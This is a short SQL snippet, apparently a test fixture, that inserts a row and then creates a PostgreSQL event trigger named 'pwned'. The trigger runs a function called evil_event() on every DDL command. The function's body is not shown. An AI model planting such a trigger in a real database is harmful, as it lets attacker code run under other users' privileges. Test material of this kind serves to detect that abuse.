INSERT INTO public.t (id, v) VALUES (2, 'two');
CREATE EVENT TRIGGER pwned ON ddl_command_start EXECUTE FUNCTION public.evil_event();
